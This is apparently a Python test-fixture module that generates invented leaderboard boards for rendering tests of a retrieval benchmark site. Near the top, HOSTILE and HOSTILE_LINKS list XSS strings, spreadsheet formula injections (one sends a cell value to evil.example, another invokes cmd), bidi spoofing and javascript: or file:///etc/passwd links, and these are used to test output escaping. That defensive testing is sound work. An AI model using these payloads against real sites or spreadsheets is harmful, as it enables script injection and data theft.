"""Boards of our own invention for the tests of the page, and a script that renders them.

`python tests/board/sample_boards.py OUT` writes each board as OUT/NAME/leaderboard/.
"""

import hashlib
import sys
from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import msgspec

from heldout.board.log.final import Figures, Final, Measured, Naming, OpenedFinal, Ranges, Step
from heldout.board.log.manifest import Efficiency, Identity
from heldout.board.rules.spec import BoardSpec, Example, Policy, QuerySet, Runs, Season, Trust, View
from heldout.board.site.pages import render_board
from heldout.board.site.sections import BoardFacts, SetFacts, TrustLine
from heldout.board.standings.standings import Row, SeasonStandings, Standings
from heldout.ids import Digest

AS_OF = datetime(2026, 11, 20, 17, 10, tzinfo=UTC)
OPENS = datetime(2025, 9, 1, 9, tzinfo=UTC)

HOSTILE: Mapping[str, str] = {
    "script": "<script>document.title='owned'</script>",
    "image": '"><img src=x onerror="document.title=\'owned\'">',
    "attribute": "' onmouseover='document.title=1' x='",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "closing": "</title></td></table></script></svg><h1>owned",
    "template": "{{ 7 * 7 }}{% for x in y %}",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "bidi": "safe\u202e gnp.exe \u2066evil\u2069",
    "rtl": "مسترجع عربي 2.0",
    "long": "W" * 400,
    "controls": "a\x00b\x1bc\ud800d\ufffee\r\nf",
    "comment": "--><!-- x",
    "css": "</style><style>*{display:none}</style>",
    "svg": "<svg onload=alert(1)>",
}
HOSTILE_LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "https://good.example@evil.example/", 'https://evil.example/"onmouseover="alert(1)',
    "//evil.example/", "https://evil.example/ <script>", "vbscript:x", "", "file:///etc/passwd",
    "http://[::1", "java\nscript:alert(1)",
)  # fmt: skip

_TEAMS = (
    ("Lighthouse Institute", "IR Lab"),
    ("North Coast University", "Search Group"),
    ("Harbour Research", ""),
    ("Quillon", "Applied Language"),
    ("Ostwald Polytechnic", "Text and Data"),
    ("Ravenna Search", ""),
    ("Team Baobab", "University of the Eastern Highlands"),
    ("Kestrel AI", "Retrieval"),
    ("Fjordwise", ""),
    ("Universidad de San Telmo", "Grupo de Recuperación"),
)
_SYSTEMS = (
    "BM25 tuned, k1 0.82, b 0.68", "doc-expansion T5, BM25", "Siamese MiniLM, exact search",
    "Siamese MiniLM + hard negatives", "SparseTerm v1", "SparseTerm v1 + RM3", "LateTok (128 dim)",
    "BM25 top 100 > cross-encoder base", "BM25 top 100 > cross-encoder large",
    "Dense-XL distilled", "SparseTerm v2", "Dense-XL + SparseTerm (fused)",
    "LateTok + cross-encoder large (ensemble of 3)", "Pico",
    "Lantern: single-stage long-query encoder", "monoT5 over BM25 top 100", "Lantern v2",
    "Kestrel-1", "duoT5 over Lantern v2 top 50", "ListMerge-7B (reranker) over hybrid first stage",
    "Baobab", "Kestrel-1.5 multi-vector",
)  # fmt: skip
_GAINS = (
    0, 31, 44, 62, 55, 61, 79, 74, 88, 83, 92, 101, 109, 64, 104, 112, 118, 115, 126, 133, 128,
    131,
)  # fmt: skip


def spec(**changes: Any) -> BoardSpec:
    """A board with a dev and an eval set."""
    fields: dict[str, Any] = {
        "name": "stdlib-docs",
        "title": "Stdlib Docs",
        "task": "Given the first paragraph of a docstring, find the rest of it.",
        "opens": OPENS.date(),
        "closes": date(2027, 3, 31),
        "primary": "eval",
        "recipients": ("age1q8f", "age1zk2"),
        "contact": "leaderboard@example.org",
        "runs": Runs(order="msmarco", depth=100, min_depth=1),
        "sets": {
            "dev": QuerySet(queries="queries/dev.tsv", qrels="qrels/dev.qrels"),
            "eval": QuerySet(queries="queries/eval.tsv", candidates="candidates/eval.tsv.gz"),
        },
        "views": (
            View(name="dev", set="dev", measure="RR@10"),
            View(name="eval", set="eval", measure="RR@10"),
        ),
        "policy": Policy(),
    }
    return BoardSpec(**(fields | changes))


def _trust(day: str, words: str, says: str, why: str, event: int, *, bound: bool) -> TrustLine:
    digest = _digest(says + day) if bound else ""
    moment = f"{day}T10:00:00Z"
    return TrustLine(when=moment, when_words=words, says=says, why=why, digest=digest, event=event)


def facts(**changes: Any) -> BoardFacts:
    """The sizes and addresses of that board."""
    return replace(
        BoardFacts(
            sets={
                "dev": SetFacts(queries=1_061, judged=1_050),
                "eval": SetFacts(queries=1_060, judged=1_050),
            },
            events=189,
            head=_digest("head"),
            example=Example(
                query="Return a new list containing all items from the iterable in "
                "ascending order.",
                document="builtins.sorted",
                text="A custom key function can be supplied to customize the sort order, and the "
                "reverse flag can be set to request the result in descending order.",
            ),
            repository="https://git.example.org/stdlib-docs/board",
            home="https://stdlib-docs.example.org/leaderboard",
            trust=TRUST,
        ),
        **changes,
    )


def row(score: str, dev: str = "", /, *, days: int = 0, **changes: Any) -> Row:
    """One entry; everything that is not given is plausible, and `embargoed` hides who sent it."""
    received = OPENS + timedelta(days=days, hours=days % 9)
    published = received + timedelta(days=2)
    name = changes.get("id") or f"{received:%Y%m%d}-entry-{days:03}"
    fields: dict[str, Any] = {
        "rank": None,
        "id": name,
        "received": received,
        "published": published,
        "type": "full ranking",
        "scores": {"eval": score} | ({"dev": dev} if dev else {}),
        "counts": {"eval": 1_050} | ({"dev": 1_050} if dev else {}),
        "trophy": False,
        "reveal_due": False,
        "embargo_until": None,
        "baseline": False,
        "events": (
            (received, "received", _digest(name + "received")),
            (published, "published", _digest(name + "published")),
        ),
        "files": {
            f"submissions/{name}.tar.age": _digest(name + "tar"),
            f"submissions/{name}.key.age": _digest(name + "key"),
        },
    }
    who: dict[str, Any] = {
        "team": "Lighthouse Institute",
        "institution": "IR Lab",
        "description": "monoT5 over BM25 top 100",
        "paper": "",
        "code": "",
        "training_data": "MS MARCO passages, train split",
    }
    who |= {n: changes.pop(n) for n in Identity.__struct_fields__ if n in changes}
    hidden = changes.pop("embargoed", False)
    identity = None if hidden else Identity(**who)
    return Row(identity=identity, **(fields | changes))


def renamed(one: Row, **who: Any) -> Row:
    """The row with another identity."""
    assert one.identity is not None
    return replace(one, identity=msgspec.structs.replace(one.identity, **who))


def baseline(score: str = "0.273", dev: str = "0.280", **changes: Any) -> Row:
    """The organisers' baseline."""
    fields: dict[str, Any] = {
        "id": "bm25",
        "baseline": True,
        "description": "BM25, k1 0.9, b 0.4",
        "team": "The organisers",
        "institution": "",
        "training_data": "",
        "files": {},
        "events": ((OPENS, "baseline", _digest("bm25")),),
    }
    return row(score, dev, **(fields | changes))


def standings(rows: Sequence[Row], **changes: Any) -> Standings:
    """Rows in the official order, with their ranks and trophies."""
    best = Decimal(-1)
    trophies = set()
    for one in sorted(rows, key=lambda r: (r.received, r.id)):
        score = Decimal(one.scores["eval"])
        if score > best:
            best = score
            trophies |= set() if one.baseline else {one.id}
    ordered = sorted(rows, key=lambda r: (-Decimal(r.scores["eval"]), r.received, r.id))
    ranked, rank = [], 0
    for one in ordered:
        rank += not one.baseline
        place = None if one.baseline else rank
        won = one.id in trophies
        ranked.append(replace(one, rank=place, trophy=won, trophy_by_rule=won))
    fields: dict[str, Any] = {
        "board": "stdlib-docs",
        "as_of": AS_OF,
        "primary": "eval",
        "rows": tuple(ranked),
        "waiting": 1,
    }
    return Standings(**(fields | changes))


def busy(entries: int = 44) -> Standings:
    """A board after a busy year: the systems above, their variants, embargoes, an erratum."""
    rows = [baseline(), baseline("0.238", "0.246", id="tf-idf", description="TF-IDF, cosine")]
    return standings(rows + [_entry(n, entries) for n in range(entries)])


def one_set() -> BoardSpec:
    """A board with one query set, three measures on it and no public labels."""
    measures = {"eval": "nDCG@10", "p5": "P@5", "rbp": "RBP(p=0.5,max_rel=2)"}
    return spec(
        task="Given the first paragraph of a docstring, find the rest of it. " * 4,
        decimals=4,
        sets={"eval": QuerySet(queries="queries/eval.tsv")},
        views=tuple(View(name=n, set="eval", measure=m) for n, m in measures.items()),
    )


def crowded(days: int = 9, entries: int = 16) -> Standings:
    """A board of `one_set` with no baselines and no links: many entries on each of a few days.

    Each of the first six days brings several records; the systems have names like runs.
    """
    return standings([_run(day, n) for day in range(days) for n in range(entries)])


def hostile() -> Standings:
    """Every field of an entry filled with each attack in turn."""
    fields = ("team", "institution", "description", "training_data", "type")
    rows = [baseline(), row("0.401", "0.399", days=3)]
    for n, (name, text) in enumerate(HOSTILE.items()):
        link = HOSTILE_LINKS[n % len(HOSTILE_LINKS)]
        rows.append(
            row(
                f"0.{300 + n}",
                "0.333",
                days=10 + n,
                id=f"20251001-{name}",
                **dict.fromkeys(fields, text),
                paper=link,
                code=text,
                findings=(text,),
                errata=((AS_OF, text),),
                corrected=True,
                files={text: text},
                efficiency=Efficiency(hardware=text, parameters=n, query_latency_ms=n + 0.5),
            )
        )
    return standings(rows)


def measured(*entries: str, **changes: Any) -> Measured:
    """Figures of some entries."""
    fields: dict[str, Any] = {
        "event": 188,
        "at": AS_OF,
        "season": "",
        "view": "eval",
        "due": AS_OF.date(),
        "seed": 0,
        "entries": entries,
        "left_out": {},
        "figures": Figures(queries=100),
        "digest": "",
    }
    return Measured(**(fields | changes))


def trusted(entries: int = 12, compared: int = 10) -> Standings:
    """A board whose log tells of its ranking; the last entries are newer, or nearly the same."""
    board = busy(entries)
    ranked = [one for one in board.rows if one.rank is not None]
    ids = tuple(one.id for one in ranked[:compared])
    near = ranked[compared].id
    low = tuple(max(1, n - 1) for n in range(1, compared + 1))
    high = tuple(min(compared, n + 2) for n in range(1, compared + 1))
    steps = (True, False, None)
    figures = Figures(
        queries=1_050,
        ranges=Ranges(low=low, high=high, level=0.95, flips=10_000, pairs=45),
        progress=tuple(
            Step(entry=name, significant=steps[n % 3], family=n + 1)
            for n, name in enumerate(one.id for one in ranked[:compared] if one.trophy)
        ),
        alike=((ids[2], ids[5]),),
    )
    before = AS_OF - timedelta(days=1)
    told = {"at": before, "due": before.date(), "digest": _digest("scores")}
    figured = measured(*ids, left_out={near: "near"}, figures=figures, **told)
    spans = dict(zip(ids, zip(low, high, strict=True), strict=True))
    rows = tuple(
        replace(one, rank_low=spans[one.id][0], rank_high=spans[one.id][1] + len(ranked) - compared)
        if one.id in spans
        else replace(one, unranged="published from 2027-04-01 on")
        for one in board.rows
    )
    return replace(board, rows=rows, measured=figured)


FINAL_SCORES = ("0.402", "0.417", "0.423", "0.398", "0.371", "0.419")
"""Of six finalists, in the order of receipt."""


def final_spec() -> BoardSpec:
    """The rules of a board with a final."""
    rules = spec()
    view = View(name="final", set="final", measure="RR@10", public=False, final=True, finalists=10)
    sets = {**rules.sets, "final": QuerySet(queries="queries/final.tsv")}
    return msgspec.structs.replace(rules, sets=sets, views=(*rules.views, view))


def finals(*, opened: bool = True, again: bool = False) -> Standings:
    """A board whose finalists are named, or whose final is opened, perhaps a second time.

    The sixth finalist is under an embargo.
    """
    board = busy()
    ranked = [one for one in board.rows if one.rank is not None]
    hidden = next(one for one in ranked if one.embargoed)
    chosen = [one for one in ranked if not one.embargoed][:5]
    chosen = sorted([*chosen, hidden], key=lambda one: (one.received, one.id))
    ids = tuple(one.id for one in chosen)
    naming = Naming(event=180, at=AS_OF - timedelta(days=9), finalists=ids)
    scores = dict(zip(ids, FINAL_SCORES, strict=True))
    below = (ids[3], ids[4])
    first = OpenedFinal(
        event=188,
        at=AS_OF - timedelta(days=1),
        scores=scores,
        queries=1_000,
        best=max(ids, key=lambda name: float(scores[name])),
        below=below,
        winner=next(name for name in ids if name not in below),
        luck="0.0068",
    )
    openings: tuple[OpenedFinal, ...] = (first,) if opened else ()
    if again:
        repaired = replace(
            first, at=AS_OF, below=(ids[0], *below), winner=ids[1], why="Two labels were wrong."
        )
        openings = (first, repaired)
    final = Final(view="final", namings=(naming,), openings=openings)
    return replace(board, final=final, finalists=tuple(replace(one, rank=None) for one in chosen))


def seasonal() -> tuple[list[SeasonStandings], BoardSpec]:
    """A season that runs and tells of its ranking, and the rules."""
    season = Season(name="winter", view="eval", opens=date(2026, 1, 1))
    rules = msgspec.structs.replace(spec(trust=Trust()), seasons=(season,))
    told = replace(trusted(), season=season.name)
    return [SeasonStandings(season=season, standings=told)], rules


def empty() -> Standings:
    """A board with a baseline and nobody else."""
    return standings([baseline()], as_of=OPENS, waiting=0)


def write_boards(out: Path) -> None:
    """Render every board into a folder of its own."""
    boards = {name: render_board(board, RULES[name], facts()) for name, board in BOARDS.items()}
    seasons, rules = seasonal()
    boards["seasons"] = render_board(seasons[0].standings, rules, facts(), seasons=seasons)
    for name, files in boards.items():
        for path, data in files.items():
            target = out / name / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)


def _entry(n: int, entries: int) -> Row:
    days = 4 + n * 430 // entries
    system = n * len(_SYSTEMS) // entries
    wobble = (n * 37 % 23) - 14
    score = 278 + _GAINS[system] + min(wobble, 4 if n % 5 == 0 else 0)
    dev = score + 8 + n * 13 % 9
    team, institution = _TEAMS[(n * 3 + system) % len(_TEAMS)]
    variant = (
        ""
        if n * len(_SYSTEMS) % entries < len(_SYSTEMS)
        else (", larger batch", ", tuned", " (rerun)", ", no title field")[n % 4]
    )
    until = {entries - 3: date(2027, 5, 20), entries - 12: date(2026, 11, 18)}.get(n)
    found = {"findings": ("near-variant",)} if variant else {}
    word = "x7f3" if until else team.split()[0].lower()
    return row(
        f"0.{score}",
        "" if n == 9 else f"0.{dev}",
        days=days,
        id=f"{OPENS + timedelta(days=days):%Y%m%d}-{word}-{n:02}",
        type="reranking"
        if "over" in _SYSTEMS[system] or ">" in _SYSTEMS[system]
        else "full ranking",
        paper="https://papers.example.org/2605.01234" if n % 3 == 0 else "",
        code=f"https://git.example.org/{n}" if n % 4 == 1 else "",
        corrected=n == 20,
        errata=((AS_OF, "The run was scored again after 3 judgments were repaired."),)
        if n == 20
        else (),
        embargoed=until is not None,
        embargo_until=until,
        reveal_due=until is not None and until <= AS_OF.date(),
        efficiency=_efficiency(n, score),
        team=team,
        institution=institution,
        description=_SYSTEMS[system] + variant,
        **({} if until else found),
    )


def _efficiency(n: int, score: int) -> Efficiency | None:
    """What every second team states; better systems are larger and slower, on the whole."""
    if n % 2:
        return None
    size = 10 ** ((score - 270) / 40) * (1 + n * 7 % 11)
    return Efficiency(
        parameters=0 if n == 0 else round(size * 1_000) * 1_000,
        training_pairs=502_939,
        hardware="1 GPU, 24 GB; 16 cores",
        query_latency_ms=round(0.5 + size / 9 * (1 + n * 5 % 13), 2),
        energy_kwh=0.04 if n % 4 else None,
    )


def _run(day: int, n: int) -> Row:
    score = 0.09 * min(day, 6) + 0.012 * (n * 3 % 16) + 0.001 * (n * 5 % 9)
    received = OPENS + timedelta(days=52 * day, minutes=n)
    team, institution = _TEAMS[(n + day) % len(_TEAMS)]
    scores = {"eval": score, "p5": score * 1.15, "rbp": score * 1.04}
    return replace(
        row(
            "0",
            id=f"{received:%Y%m%d}-run_{day}_{n}",
            description=f"{team.split()[0]}_run{n}_bm25_{'rm3' if n % 3 else 'manual'}",
            team=team.replace(" ", "_"),
            institution=institution,
        ),
        received=received,
        type=("automatic", "manual")[n % 2],
        scores={view: f"{value:.4f}" for view, value in scores.items()},
        counts=dict.fromkeys(scores, 30),
    )


def _digest(text: str) -> Digest:
    return Digest(hashlib.sha256(text.encode()).hexdigest())


_BOUND = "Committed to everything held out that decides a score"
TRUST = (
    _trust("2025-01-06", "6 Jan 2025", _BOUND, "", 0, bound=True),
    _trust(
        "2025-08-01",
        "1 Aug 2025",
        "Committed again to everything held out that decides a score",
        "two labels stood on wrong queries",
        77,
        bound=True,
    ),
    _trust(
        "2025-11-03",
        "3 Nov 2025",
        "Keys of the organisers changed (1 key added, 1 key dropped)",
        "a laptop was stolen",
        120,
        bound=False,
    ),
)


BOARDS: Mapping[str, Standings] = {
    "busy": busy(),
    "hostile": hostile(),
    "empty": empty(),
    "one": standings([baseline(), row("0.341", "0.352", days=20)]),
    "many": busy(200),
    "crowded": crowded(),
    "trusted": trusted(),
    "announced": busy(6),
    "finalists": finals(opened=False),
    "final": finals(),
    "final-again": finals(again=True),
}
RULES: Mapping[str, BoardSpec] = {name: spec() for name in BOARDS} | {
    "crowded": one_set(),
    "trusted": spec(trust=Trust()),
    "announced": spec(trust=Trust(after="30 days")),
    **dict.fromkeys(("finalists", "final", "final-again"), final_spec()),
}


if __name__ == "__main__":
    write_boards(Path(sys.argv[1]))
